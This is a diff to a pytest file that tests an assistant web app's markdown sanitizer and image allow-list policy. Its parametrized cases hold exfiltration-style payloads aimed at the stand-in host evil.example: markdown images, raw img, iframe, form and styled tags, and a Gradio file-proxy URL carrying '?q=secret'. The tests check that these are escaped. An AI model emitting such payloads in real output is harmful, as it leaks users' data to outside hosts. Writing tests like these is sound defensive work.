@@ -5,13 +5,16 @@ from __future__ import annotations
 import re
 
 import pytest
+from markdown_it import MarkdownIt
 
 from assistant.domain.reply import Step
 from assistant.domain.sources import Source
+from assistant.web.image_policy import ImagePolicy
 from assistant.web.render import sources_notice, step_message
-from assistant.web.safe_markdown import ImagePolicy, code_fence, markdown_text, safe_markdown
+from assistant.web.safe_markdown import code_fence, markdown_text, safe_markdown
 
 NONE = ImagePolicy()
+COMMONMARK = MarkdownIt("commonmark").enable("table")  # an oracle: raw HTML passes through
 EVIL = "https://evil.example"
 
 
@@ -52,18 +55,52 @@ def test_an_image_inside_a_link_is_text_in_that_link():
 
 
 @pytest.mark.parametrize("image", [
-    "![chart](/gradio_api/file=/tmp/chart.png)",
     "![dot](data:image/png;base64,iVBORw0KGgo=)",
     "![ok](https://images.example/ok.png)",
     "![ok](https://cdn.images.example/ok.png)",
 ])
 def test_the_app_s_own_data_and_allowed_images_show(image):
-    policy = ImagePolicy.allowing(["images.example", "*.images.example"])
+    policy = ImagePolicy(frozenset({"images.example", "*.images.example"}))
     assert safe_markdown(image, policy) == image
 
 
+def test_not_even_the_app_s_own_paths_show_as_images():
+    """Gradio's /gradio_api/file=<url> fetches any public address on the server's side."""
+    for address in ("/gradio_api/file=https://evil.example/?q=secret", "/gradio_api/file=/tmp/a.png",
+                    "chart.png"):
+        shown = safe_markdown(f"![x]({address})", NONE)
+        assert images_in(shown) == [] and shown == f"[🖼 image]({address})"
+
+
+@pytest.mark.parametrize("text", [
+    "<p>`<img src=https://evil.example/a.png>`",  # a tag opens an HTML block: no code in it
+    "<b>\n`<img src=https://evil.example/a.png>`",
+    "- <p>`<img src=https://evil.example/a.png>`",
+    "`a\n<div>\n<img src=https://evil.example/a.png>`",  # a span ends with its line
+    "| `x | <img src=https://evil.example/a.png>` |",  # a table's cell ends a span
+    "[a](https://x.example/`)<img src=https://evil.example/a.png>`",  # no code in an address
+    "```\nx\n    ```\n```\n<img src=https://evil.example/a.png>",  # 4 spaces close nothing
+    "```\r\nx\r\n```\r\n<img src=https://evil.example/a.png>",
+    "![r][x]\n\n> [x]: https://evil.example/a.png",  # a reference we cannot resolve
+    "![a](https://evil.example/a.png\u00a0)",
+])
+def test_what_the_page_might_read_otherwise_is_escaped(text):
+    html = COMMONMARK.render(safe_markdown(text, NONE))
+    assert "<img" not in html, html
+
+
+def test_every_payload_renders_to_no_fetching_element():
+    """Rendered by a CommonMark parser with raw HTML on, as the page's is."""
+    payloads = [f"![a]({EVIL}/a.png)", f'<img src="{EVIL}/b.png">', f"![c][r]\n\n[r]: {EVIL}/c",
+                f'<p style="background:url({EVIL}/d)">x</p>', f'<form action="{EVIL}"><button>x',
+                f'<iframe src="{EVIL}">', f"<video poster={EVIL}/e>", f"[![f]({EVIL}/f)]({EVIL})"]
+    html = COMMONMARK.render(safe_markdown("\n\n".join(payloads), NONE))
+    assert re.search(r"<(img|form|button|iframe|video|input)\b|<[a-z]+ [^>]*style=", html) is None
+    assert html.count('🖼 image from evil.example</a>') == 3
+
+
 def test_an_allowed_host_does_not_allow_look_alikes():
-    policy = ImagePolicy.allowing(["images.example"])
+    policy = ImagePolicy(frozenset({"images.example"}))
     for address in ("https://images.example.evil.example/x.png",
                     "https://images.example@evil.example/x.png",
                     "https://evilimages.example/x.png", "ftp://images.example/x.png"):
